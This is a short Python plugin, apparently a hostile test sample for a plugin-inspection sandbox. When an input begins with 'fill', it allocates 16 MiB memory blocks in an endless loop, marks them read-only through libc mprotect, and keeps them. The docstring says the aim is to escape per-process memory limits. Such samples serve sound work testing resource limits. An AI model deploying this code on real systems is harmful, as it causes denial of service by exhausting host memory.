"""A plugin that takes memory which no limit of a process counts, for an image that begins with "fill"."""

from douane_plugin import Inspector


class Glutton(Inspector):
    def inspect(self, image):
        import ctypes
        import mmap

        libc, blocks = ctypes.CDLL(None), []
        head = b""
        for chunk in image:
            head = head or bytes(chunk[:4])
        while head == b"fill":
            memory = mmap.mmap(-1, 16 << 20, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
            for _ in range(16):
                memory.write(b"x" * (1 << 20))
            libc.mprotect(ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(memory))), 16 << 20, 1)
            blocks.append(memory)
